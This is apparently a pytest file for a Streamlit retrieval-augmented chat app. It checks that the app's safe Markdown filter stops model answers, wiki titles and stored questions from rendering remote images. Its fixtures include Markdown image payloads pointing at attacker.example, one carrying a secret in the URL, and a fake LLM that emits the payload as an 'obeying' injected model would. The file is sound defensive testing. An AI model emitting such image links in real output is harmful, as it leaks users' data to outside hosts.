"""The chat page renders model output through the safe Markdown filter: a model that writes
a remote image (an exfiltration channel once rendered) is shown without it. Real local
OpenAI-compatible server, real app under AppTest."""

from __future__ import annotations

import streamlit as st
from streamlit.testing.v1 import AppTest

from tests.ui.conftest import APP
from tests.workbench.openai_server import ChatServer, Say, task_of
from workbench.ui import state

EXFIL = "![x](http://attacker.example/leak?q=SECRET)"


def test_a_remote_image_in_the_model_answer_is_not_rendered(ui_copy, monkeypatch):
    def obeying(payload):
        return Say("YES") if task_of(payload) == "judge" else Say(f"父子块 [1] {EXFIL}")

    with ChatServer(obeying) as srv:
        monkeypatch.setenv("OPENAI_BASE_URL", srv.base_url)
        monkeypatch.setenv("WIKIRAG_LLM_MODEL", "test-model")
        st.cache_resource.clear()  # the LLM client is cached per config, not per environment
        try:
            at = AppTest.from_file(str(APP), default_timeout=60)
            at.run()
            at.switch_page("views/chat.py").run()
            at.chat_input(key=state.CHAT_INPUT).set_value("父子块检索的数据结构是什么？").run()
        finally:
            st.cache_resource.clear()
        assert srv.tasks(), "the page did not call the LLM"
    assert not at.exception
    shown = "\n".join(str(m.value) for m in at.markdown)
    assert "父子块 [\\[1\\]](knowledge_base?node=" in shown  # the marker links its chapter
    assert "attacker.example" not in shown and "![" not in shown


def _poisoned_turn() -> None:
    from types import SimpleNamespace

    from workbench.answer.chat_answer import ChatAnswer
    from workbench.ui.chat_turns import chat_turn

    evil = "![t](http://attacker.example/title)"
    ans = ChatAnswer(
        question="q",
        answer="按标题切分 **保留面包屑** [1]",
        citations=[
            {
                "n": 1,
                "node_id": "rag/x#a",
                "breadcrumb": ["Doc", evil],
                "file_path": "a`b.md",
                "line": 3,
            }
        ],
        refusal=False,
        mode="llm",
        notice=None,
        retrieved=[],
        trace=[],
        rounds=1,
    )
    turn = {"question": "![q](//attacker.example/q) **asked**", "answer": ans, "config": "c"}
    chat_turn(0, turn, SimpleNamespace(nodes={}))


def test_wiki_titles_and_stored_questions_render_as_text_not_markdown():
    from tests.workbench.test_safe_markdown import off_site

    at = AppTest.from_function(_poisoned_turn, default_timeout=30)
    at.run()
    assert not at.exception
    shown = [str(m.value) for m in at.markdown] + [e.label for e in at.expander]
    shown += [str(c.value) for c in at.caption]
    assert all(off_site(s) == [] for s in shown), shown
    # the label shows the title's characters, the question its asterisks: text, not markup
    assert "\\[1\\] Doc › \\!\\[t\\]\\(`http://attacker.example/title)`" in shown
    assert "\\!\\[q\\]\\(//attacker\\.example/q\\) \\*\\*asked\\*\\*" in shown
    # the answer's own formatting and its citation link are kept
    assert "按标题切分 **保留面包屑** [\\[1\\]](knowledge_base?node=rag%2Fx%23a)" in shown
